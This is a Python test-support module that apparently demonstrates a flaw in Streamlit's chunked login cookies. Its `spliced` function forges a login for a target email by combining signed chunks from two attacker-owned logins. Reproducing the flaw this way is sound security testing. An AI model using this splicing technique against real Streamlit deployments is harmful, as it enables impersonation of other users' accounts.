"""Logins too long for one cookie, split as Streamlit splits them, and what an attacker can combine from two of them.

Streamlit signs each chunk separately, so the first chunk of one login and the second of another form a login that was
never issued.
"""

import json
import random
import string

from streamlit.auth_util import set_cookie_with_chunks
from streamlit.web.server.starlette.starlette_app_utils import create_signed_value, decode_signed_value
from streamlit.web.server.starlette.starlette_auth_routes import _get_auth_cookie_attribute_size

from pages.server.request_login import LOGIN_COOKIE
from tests.support.login_provider import SECRET

TOKENS = "_streamlit_user_tokens"
# Random text, because Streamlit compresses what it signs.
FILLER = "".join(random.Random(1).choices(string.ascii_letters + string.digits, k=6000))


def in_chunks(claims: dict, name: str = LOGIN_COOKIE) -> dict[str, str]:
    """Return the cookies that Streamlit sets for a login with `claims`: several if it doesn't fit into one."""
    jar: dict[str, str] = {}

    def sign(name: str, value: str) -> bytes:
        return create_signed_value(SECRET, name, value)

    def keep(name: str, value: str) -> None:
        jar[name] = sign(name, value).decode()

    set_cookie_with_chunks(keep, sign, name, claims, cookie_attr_size=_get_auth_cookie_attribute_size())
    return jar


def long_login(email: str, cut: int = 0, **more) -> dict[str, str]:
    """Return the cookies of an account called `email` whose first chunk ends `cut` characters into that address.

    Anyone could get these claims from a provider for their own account: the length of the name decides where the chunk
    ends.
    """
    def claims(padding: int) -> dict:
        return {"is_logged_in": True, "name": FILLER[:padding], "email": email, "email_verified": True,
                "iss": "https://login.example.org", "sub": email, "iat": 1_750_000_000, "nonce": "of an attacker",
                **more, "picture": FILLER[-1500:]}

    ends = len(text_in(in_chunks(claims(4000)), 1))
    starts = json.dumps(claims(0)).index(email)
    found = in_chunks(claims(ends - starts - cut))
    assert set(found) == {LOGIN_COOKIE, f"{LOGIN_COOKIE}_1", f"{LOGIN_COOKIE}_2"} and text_in(found, 0) == "chunks-2"
    return found


def spliced(target: str, **more) -> dict[str, str]:
    """Return cookies that read as a login of `target`, combined from two logins of the attacker's own accounts."""
    first = long_login(f"{target}.attacker.example", cut=len(target), **more)
    second = long_login("eve@attacker.example", cut=len("eve@attacker.example"), **more)
    made = {**first, f"{LOGIN_COOKIE}_2": second[f"{LOGIN_COOKIE}_2"]}
    said = claims_in(made)
    assert said["email"] == target and said["email_verified"] is True and said["is_logged_in"] is True
    return made


def claims_in(cookies: dict[str, str]) -> dict:
    """Return the claims of a login in one cookie or two chunks, as Streamlit reads them."""
    said = text_in(cookies, 0)
    return json.loads(text_in(cookies, 1) + text_in(cookies, 2) if said.startswith("chunks-") else said)


def text_in(cookies: dict[str, str], chunk: int) -> str:
    """Return the content of one cookie of a login; chunk 0 is the main cookie with the number of chunks."""
    name = f"{LOGIN_COOKIE}_{chunk}" if chunk else LOGIN_COOKIE
    return decode_signed_value(SECRET, name, cookies[name]).decode()
